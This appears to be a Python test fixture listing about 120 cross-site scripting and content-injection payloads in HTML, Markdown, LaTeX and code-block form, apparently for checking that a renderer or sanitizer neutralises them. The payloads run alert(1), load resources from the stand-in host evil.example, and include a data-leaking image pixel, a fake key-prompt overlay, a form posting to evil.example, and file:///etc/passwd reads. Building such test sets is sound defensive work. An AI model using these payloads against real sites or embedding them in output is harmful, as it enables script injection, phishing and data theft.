"""120 texts that try to run a script, load something from elsewhere or take over the page.

`alert(1)` is the script, evil.example the other host.
"""

HTML = r"""
<script>alert(1)</script>
<script src="https://evil.example/x.js"></script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="module">import "https://evil.example/m.js"</script>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png">
<img srcset="https://evil.example/a.png 1x">
<img src=`x`onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><use href="https://evil.example/s.svg#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<body onload=alert(1)>
<body background="https://evil.example/b.png">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/o.swf"></object>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/e.swf">
<link rel="stylesheet" href="https://evil.example/s.css">
<link rel="prefetch" href="https://evil.example/p">
<style>@import "https://evil.example/s.css";</style>
<style>*{background:url(https://evil.example/b)}</style>
<p style="background:url(https://evil.example/b)">x</p>
<div style="position:fixed;inset:0;z-index:9999">Your session ended. Type your key.</div>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name=key autofocus onfocus=alert(1)><button>Send</button></form>
<input type=image src="https://evil.example/i.png">
<isindex action="javascript:alert(1)">
<button formaction="javascript:alert(1)">x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src="https://evil.example/v.mp4" onloadstart=alert(1) autoplay></video>
<audio src=x onerror=alert(1)></audio>
<video><source onerror=alert(1) src=x></video>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1) onpointerenter=alert(1)>x</div>
<a href="javascript:alert(1)">x</a>
<a href="https://evil.example/" ping="https://evil.example/ping">x</a>
<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="https://evil.example/s.css"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/e">]>&x;
<x onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</x>
<img/src/onerror=alert(1)>
<a id=prompt name=send>clobber</a><form id=messages></form><img name=getElementById>
<slot onslotchange=alert(1)><portal src="https://evil.example/"></portal></slot>
<dialog open onclose=alert(1)>x</dialog><popover popovertarget=settings>x</popover>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
"""

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example/x)
[x](/v1/models)
[x](\\evil.example\share)
[x](https:evil.example)
[x](https://evil.example/"onmouseover="alert(1))
[x](https://evil.example 'x" onmouseover="alert(1)')
[https://bank.example/login](https://evil.example/login)
[x][r]
<javascript:alert(1)>
<https://evil.example/"onclick=alert(1)>
![x](https://evil.example/pixel.png?leak=secret)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x"onerror="alert(1)](x)
[![x](https://evil.example/i.png)](https://evil.example/)
https://evil.example/?q=<script>alert(1)</script>
https://evil.example/"onmouseover=alert(1)//
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
`<img src=x onerror=alert(1)>`
**<b onclick=alert(1)>x</b>**
# <svg/onload=alert(1)>
> <iframe src=javascript:alert(1)>
- <script>alert(1)</script>
"""

MATHEMATICS = r"""
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\text{<img src=x onerror=alert(1)>}$
$\text{&lt;img src=x onerror=alert(1)&gt;}$
$\text{</mtext></math><script>alert(1)</script>}$
$\text{&#60;script&#62;alert(1)&#60;/script&#62;}$
$\includegraphics{https://evil.example/i.png}$
$\style{background:url(https://evil.example/b)}{x}$
$\class{x" onclick="alert(1)}{x}$
$\color{red;background:url(https://evil.example/b)}{x}$
$\color{"onclick=alert(1) x="}{x}$
$\begin{array}{"onclick=alert(1)"} 1 \end{array}$
$\operatorname{<svg onload=alert(1)>}$
\(<img src=x onerror=alert(1)>\)
\[<script>alert(1)</script>\]
$$\hspace{1em" onclick="alert(1)}$$
$$\input{/etc/passwd}\write18{x}$$
"""

BLOCKS = (
    "```html\n<script>alert(1)</script>\n```",
    "```x\" onmouseover=\"alert(1)\n<img src=x onerror=alert(1)>\n```",
    "```</code></pre><script>alert(1)</script>\nx\n```",
    "x\n\n[r]: javascript:alert(1)\n\n[r] [r][r] ![r]",
    "[r]\n\n[r]: https://evil.example/ \"x\\\" onmouseover=\\\"alert(1)\"",
    "<div\nonclick=alert(1)\n>x</div>\n\n<style>\n*{background:url(//evil.example)}\n</style>",
    "a\x00<scr\x00ipt>alert(1)</script>\x00[x](java\x00script:alert(1))",
    "|a|\n|:\"onclick=alert(1):|\n|<img src=x onerror=alert(1)>|",
    "    <script>alert(1)</script>",
)  # fmt: skip

PAYLOADS = (*HTML.strip().split("\n"), *MARKDOWN.strip().split("\n"), *MATHEMATICS.strip().split("\n"), *BLOCKS)
